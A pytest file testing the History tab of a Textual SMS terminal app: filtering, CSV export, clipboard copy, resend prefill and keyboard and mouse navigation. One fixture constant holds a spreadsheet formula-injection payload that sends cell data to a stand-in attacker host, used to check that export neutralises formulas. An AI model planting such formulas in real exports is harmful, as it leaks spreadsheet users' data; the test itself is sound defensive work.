"""History driven as a user would on the sandbox: filters, export, copy id, resend, mouse, keys."""

from __future__ import annotations

import csv
from datetime import UTC, datetime
from pathlib import Path
from typing import cast

import pytest
from support.sandbox_app import sandbox_app, store_of
from textual import events
from textual.message import Message
from textual.pilot import Pilot
from textual.widgets import Input, Select, Static, TextArea

from smstui.core.config import data_dir
from smstui.core.models import HistoryMessage
from smstui.core.store.message_store import MessageFilter, MessageStore, StoredMessage
from smstui.ui.app import SmsApp
from smstui.ui.tabs import history as history_tab
from smstui.ui.widgets.virtual_list import VirtualList

#: ACMA's fictional mobile range, and none of the sandbox's seeded contacts
ALICE = "+61491570998"
BOB = "+61491570999"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
#: a typing pause longer than the list's filter debounce (150 ms) and detail delay (100 ms)
QUIET = 0.4


def noon(day: str) -> datetime:
    # noon UTC is the same calendar day in every local zone from -11 to +11
    return datetime.fromisoformat(f"{day}T12:00:00").replace(tzinfo=UTC)


def seed(store: MessageStore) -> None:
    """Four old messages of our own, older than anything the sandbox syncs."""
    store.upsert_history(
        [
            HistoryMessage(
                "HIST-A1",
                "out",
                ALICE,
                "",
                "First to Alice",
                "Completed",
                noon("2021-03-01"),
                parts=1,
            ),
            HistoryMessage(
                "HIST-A2",
                "out",
                ALICE,
                "",
                "Failed to Alice",
                "Failed",
                noon("2021-03-05"),
                parts=1,
            ),
            HistoryMessage(
                "HIST-A3", "out", ALICE, "", FORMULA, "Completed", noon("2021-03-10"), parts=1
            ),
            HistoryMessage(
                "HIST-B1", "out", BOB, "", "Hello Bob", "Completed", noon("2021-04-01"), parts=1
            ),
        ]
    )


async def settle(pilot: Pilot[None]) -> None:
    await pilot.pause()
    await pilot.app.workers.wait_for_complete()
    await pilot.pause()


async def open_history(pilot: Pilot[None]) -> VirtualList[StoredMessage]:
    app = pilot.app
    assert isinstance(app, SmsApp)
    await settle(pilot)
    # Compose (focused at start, its recipients field would take a "3") -> Inbox -> History
    await pilot.press("ctrl+pagedown", "ctrl+pagedown")
    await settle(pilot)
    history = cast("VirtualList[StoredMessage]", app.query_one("#history-list", VirtualList))
    assert app.focused is history
    return history


async def type_filter(pilot: Pilot[None], selector: str, text: str) -> None:
    await pilot.click(selector)
    await pilot.press(*text)
    await pilot.pause(QUIET)
    await settle(pilot)


async def alice_in_history(pilot: Pilot[None]) -> VirtualList[StoredMessage]:
    """History open, filtered on Alice's number, its list focused."""
    history = await open_history(pilot)
    await type_filter(pilot, "#number-filter", ALICE)
    history.focus()
    return history


def shown_ids(history: VirtualList[StoredMessage]) -> list[str]:
    rows = [history.cache.get(i) for i in range(history.row_count)]
    return [r.message_id for r in rows if r is not None]


def message_id(row: StoredMessage | None) -> str | None:
    return row.message_id if row is not None else None


def detail_text(app: SmsApp) -> str:
    return str(app.query_one("#history-detail", Static).render())


async def test_status_filter_chosen_with_keys_shows_only_that_status() -> None:
    app, _ = sandbox_app()
    seed(store_of(app))
    async with app.run_test(size=(120, 40)) as pilot:
        history = await open_history(pilot)
        await pilot.click("#status-filter")
        await pilot.pause()
        # six steps down from the prompt is Failed (Queued, Sent, Completed, Scheduled, Failed)
        await pilot.press(*["down"] * 6, "enter")
        await settle(pilot)
        assert app.query_one("#status-filter", Select).value == "Failed"
        rows = [history.cache.get(i) for i in range(history.row_count)]
        statuses = {r.status for r in rows if r is not None}
        assert statuses == {"Failed"}
        assert "HIST-A2" in shown_ids(history)
        failed = MessageFilter(statuses=frozenset({"Failed"}))
        assert history.row_count == store_of(app).count(failed)


async def test_number_filter_typed_in_local_format_shows_that_number_only() -> None:
    app, _ = sandbox_app()
    seed(store_of(app))
    async with app.run_test(size=(120, 40)) as pilot:
        history = await open_history(pilot)
        await type_filter(pilot, "#number-filter", "0491 570 998")
        assert shown_ids(history) == ["HIST-A3", "HIST-A2", "HIST-A1"]  # newest first


async def test_date_range_keeps_only_the_days_inside_it() -> None:
    app, _ = sandbox_app()
    seed(store_of(app))
    async with app.run_test(size=(120, 40)) as pilot:
        history = await open_history(pilot)
        await type_filter(pilot, "#from-filter", "2021-03-02")
        await type_filter(pilot, "#to-filter", "2021-03-31")
        assert shown_ids(history) == ["HIST-A3", "HIST-A2"]


async def test_half_typed_date_leaves_the_list_as_it_was() -> None:
    app, _ = sandbox_app()
    seed(store_of(app))
    async with app.run_test(size=(120, 40)) as pilot:
        history = await open_history(pilot)
        before = history.row_count
        await type_filter(pilot, "#from-filter", "2021-0")
        assert history.row_count == before


async def test_count_beside_the_filters_shows_how_many_messages_match() -> None:
    app, _ = sandbox_app()
    seed(store_of(app))
    async with app.run_test(size=(120, 40)) as pilot:
        await open_history(pilot)
        await type_filter(pilot, "#number-filter", BOB)
        assert str(app.query_one("#history-count", Static).render()) == "1 message"


async def test_export_writes_the_filtered_rows_with_formulas_neutralised() -> None:
    app, _ = sandbox_app()
    seed(store_of(app))
    async with app.run_test(size=(120, 40)) as pilot:
        await alice_in_history(pilot)
        await pilot.press("e")
        await settle(pilot)
    [path] = Path(data_dir()).glob("history-*.csv")
    with path.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert [r["message_id"] for r in rows] == ["HIST-A3", "HIST-A2", "HIST-A1"]
    assert {r["to"] for r in rows} == {ALICE}
    assert rows[0]["body"] == "'" + FORMULA  # a spreadsheet reads it as text, not a formula


async def test_y_copies_the_highlighted_message_id_to_the_clipboard() -> None:
    app, _ = sandbox_app()
    seed(store_of(app))
    async with app.run_test(size=(120, 40)) as pilot:
        await alice_in_history(pilot)
        await pilot.press("j", "y")
        await pilot.pause()
        assert app.clipboard == "HIST-A2"


async def test_r_resends_through_compose_prefilled_with_number_and_body() -> None:
    app, world = sandbox_app()
    seed(store_of(app))
    async with app.run_test(size=(120, 40)) as pilot:
        history = await open_history(pilot)
        await type_filter(pilot, "#number-filter", BOB)
        history.focus()
        await pilot.press("r")
        await settle(pilot)
        assert app.active_tab == "compose"
        assert app.query_one("#recipients", Input).value == BOB
        assert app.query_one("#body", TextArea).text == "Hello Bob"
        assert world.clicksend.received == []  # only prefilled: sending is the user's call


async def test_clicking_a_row_selects_it_and_shows_its_detail() -> None:
    app, _ = sandbox_app()
    seed(store_of(app))
    async with app.run_test(size=(120, 40)) as pilot:
        history = await open_history(pilot)
        await type_filter(pilot, "#number-filter", ALICE)
        await pilot.click("#history-list", offset=(5, 2))
        await pilot.pause(QUIET)
        assert history.cursor == 2
        assert history.current is not None and history.current.message_id == "HIST-A1"
        assert "Message id: HIST-A1" in detail_text(app)
        assert "First to Alice" in detail_text(app)


async def test_detail_pane_follows_the_cursor_once_it_rests() -> None:
    app, _ = sandbox_app()
    seed(store_of(app))
    async with app.run_test(size=(120, 40)) as pilot:
        await alice_in_history(pilot)
        await pilot.press("j", "j", "k")
        await pilot.pause(QUIET)
        assert "Message id: HIST-A2" in detail_text(app)


async def test_a_single_key_changes_the_detail_pane_in_the_same_handler(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # keys one at a time (never "held"), and a timer that would not fire within the test: the
    # pane has changed when the list's move returns, before any message or frame
    monkeypatch.setattr(history_tab, "HELD_KEY_GAP", 0.0)
    monkeypatch.setattr(history_tab, "DETAIL_DELAY", 600.0)
    app, _ = sandbox_app()
    seed(store_of(app))
    async with app.run_test(size=(120, 40)) as pilot:
        history = await alice_in_history(pilot)
        assert "Message id: HIST-A3" in detail_text(app)
        history.action_cursor(1)
        assert "Message id: HIST-A2" in detail_text(app)
        await pilot.press("j")
        assert "Message id: HIST-A1" in detail_text(app)
        await pilot.press("k")
        assert "Message id: HIST-A2" in detail_text(app)


async def test_moving_in_history_posts_no_message_nobody_reads() -> None:
    # the tab is called as the cursor moves; a Highlighted message would only bubble through
    # the eight widgets above the list to the app, a dispatch in each, on every key
    seen: list[Message] = []
    app, _ = sandbox_app()
    seed(store_of(app))
    async with app.run_test(size=(120, 40), message_hook=seen.append) as pilot:
        history = await alice_in_history(pilot)
        seen.clear()
        await pilot.press("j", "pagedown", "k")
        await pilot.pause()
        assert history.cursor > 0
        assert f"Message id: {history.current.message_id}" in detail_text(app)
        assert any(isinstance(m, events.Key) for m in seen)  # the hook saw the keys
        assert not [m for m in seen if isinstance(m, VirtualList.Highlighted)]


async def test_a_held_key_leaves_the_detail_pane_until_the_cursor_rests(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(history_tab, "HELD_KEY_GAP", 600.0)  # every move after the first one
    app, _ = sandbox_app()
    seed(store_of(app))
    async with app.run_test(size=(120, 40)) as pilot:
        history = await alice_in_history(pilot)
        assert "Message id: HIST-A3" in detail_text(app)
        history.action_cursor(1)
        history.action_cursor(1)
        assert "Message id: HIST-A3" in detail_text(app)  # held: not yet
        await pilot.pause(QUIET)
        assert "Message id: HIST-A1" in detail_text(app)  # rested: it follows


async def test_j_k_g_and_G_move_through_history() -> None:
    app, _ = sandbox_app()
    seed(store_of(app))
    async with app.run_test(size=(120, 40)) as pilot:
        history = await open_history(pilot)
        total = history.row_count
        await pilot.press("j", "j", "k")
        assert history.cursor == 1
        await pilot.press("G")
        await pilot.pause()
        assert history.cursor == total - 1
        assert message_id(history.current) == "HIST-A1"  # the oldest is last
        await pilot.press("k")
        assert message_id(history.current) == "HIST-A2"
        await pilot.press("g")
        assert history.cursor == 0


async def test_j_k_g_and_G_move_through_the_inbox() -> None:
    app, world = sandbox_app()
    for n in range(3):
        world.add_inbound(f"+6149157020{n}", f"Reply number {n}")
    async with app.run_test(size=(120, 40)) as pilot:
        await settle(pilot)
        await pilot.press("ctrl+pagedown")
        await settle(pilot)
        inbox = app.query_one("#inbox-list", VirtualList)
        assert app.focused is inbox
        expected = store_of(app).page(limit=1000, filters=MessageFilter(direction="in")).rows
        assert inbox.row_count == len(expected) >= 3
        await pilot.press("j", "j")
        assert inbox.current == expected[2]
        await pilot.press("k")
        assert inbox.current == expected[1]
        await pilot.press("G")
        assert inbox.current == expected[-1]
        await pilot.press("g")
        assert inbox.cursor == 0 and inbox.current == expected[0]
